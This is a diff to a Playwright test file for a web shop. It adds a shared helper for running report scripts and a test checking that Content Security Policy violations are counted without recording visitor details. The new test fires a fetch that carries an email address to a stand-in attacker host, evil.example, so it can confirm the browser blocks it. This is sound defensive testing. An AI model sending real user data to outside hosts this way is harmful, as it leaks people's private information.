@@ -10,13 +10,19 @@ test.describe.configure({ mode: 'default' });
 let shop: RunningShop;
 let folder: string;
 test.beforeAll(async () => {
-  folder = tempFolder('vitals');
+  folder = tempFolder('reports');
   shop = await startShop({ DATA_DIR: folder, VITALS_PERCENT: '100', LOG_LEVEL: 'warn' });
 });
 test.afterAll(async () => {
   await shop.stop();
 });
 
+/** What a command prints about a week of this shop. */
+const report = (script: string) =>
+  execFileSync('node', ['--conditions=react-server', `scripts/${script}.ts`, '--days', '7'], {
+    env: { ...process.env, DATA_DIR: folder },
+    encoding: 'utf8',
+  });
 const alive = (page: Page) => expect(page.locator('[data-site-header]')).toHaveAttribute('data-ready', '');
 
 test('P-1 U-7 how fast a page was is counted when the visitor goes on, and the report shows it', async ({
@@ -27,12 +33,7 @@ test('P-1 U-7 how fast a page was is counted when the visitor goes on, and the r
   await page.waitForLoadState('networkidle');
   await page.goto(`${shop.origin}/au`);
   await expect
-    .poll(() =>
-      execFileSync('node', ['--conditions=react-server', 'scripts/vitals-report.ts', '--days', '7'], {
-        env: { ...process.env, DATA_DIR: folder },
-        encoding: 'utf8',
-      }),
-    )
+    .poll(() => report('vitals-report'))
     .toMatch(/\| list \| LCP \| 1 \|[\s\S]*\| list \| FCP \| 1 \|[\s\S]*\| list \| TTFB \| 1 \|/);
 });
 
@@ -88,4 +89,17 @@ test('S8 a failure in a script of ours is logged with its source, whose map nobo
     '/_next/maps/static/a.map',
   ])
     expect((await request.get(shop.origin + address)).status(), address).toBe(404);
+});
+
+test('what a browser refuses is counted without the visitor, and the command shows it', async ({ page }) => {
+  await page.goto(`${shop.origin}/nz/products?type=CPT`, { waitUntil: 'domcontentloaded' });
+  const answered = page.waitForResponse(/\/api\/csp-reports$/);
+  await page.evaluate(() =>
+    fetch('https://evil.example/pixel.png?visitor=ada@example.com').catch(() => undefined),
+  );
+  expect((await answered).status()).toBe(204);
+  await expect
+    .poll(() => report('csp-report'))
+    .toMatch(/^\| connect-src \| https:\/\/evil\.example \| list \| 1 \|/m);
+  expect(report('csp-report')).not.toMatch(/ada|visitor|CPT/);
 });
